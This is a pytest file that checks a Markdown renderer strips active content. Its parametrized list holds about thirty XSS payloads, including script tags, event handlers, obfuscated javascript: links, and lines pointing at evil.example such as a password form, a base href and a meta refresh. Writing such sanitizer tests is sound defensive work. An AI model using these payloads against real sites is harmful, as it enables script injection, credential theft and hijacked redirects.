"""X3, X2: Markdown of strangers shows text, and nothing that acts."""

import time
from html.parser import HTMLParser

import pytest

from integrations import markdown

HARMLESS = markdown.TAGS
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<div hx-get='/admin/' hx-trigger='load'>x</div>",
    "<a href='/x' hx-post='/api/v1/services' hx-on:click='alert(1)'>x</a>",
    "<p id='main' name='csrfmiddlewaretoken' class='btn' style='x'>x</p>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]( javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class Seen(HTMLParser):
    """The elements and attributes of a text as a browser would see them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_becomes_text_or_nothing(payload):
    seen = Seen(markdown.render(f"before\n\n{payload}\n\nafter"))
    assert seen.tags <= HARMLESS
    assert {name for name, _ in seen.attributes} <= {"href", "title", "start", "rel"}
    links = [value for name, value in seen.attributes if name == "href"]
    assert all(link.startswith(("http://", "https://", "mailto:", "/", "#")) for link in links)


def test_a_link_hands_nothing_on():
    assert 'rel="noopener noreferrer nofollow"' in markdown.render("[x](https://a.example)")


@pytest.mark.parametrize("piece", ["[", "]", "[a](", "![", "*a ", "~~a", "> ", "`", "<", "_", "- a\n", "| a ", "&a"])
def test_no_text_takes_long(piece):
    text = piece * (50_000 // len(piece))
    began = time.process_time()
    markdown.render(text)
    assert time.process_time() - began < 3  # 1 s on a processor that nobody else uses


def test_a_text_that_is_too_long_is_shown_plainly():
    seen = Seen(markdown.render("<b>" + "x" * markdown.LONGEST))
    assert seen.tags == {"pre"}


def test_what_people_write_is_shown():
    html = markdown.render("# Title\n\n1. *one*\n2. `two`\n\n| a | b |\n| - | - |\n| 1 | ~~2~~ |\n")
    assert Seen(html).tags == {"h1", "ol", "li", "em", "code", "table", "thead", "tbody", "tr", "th", "td", "s"}
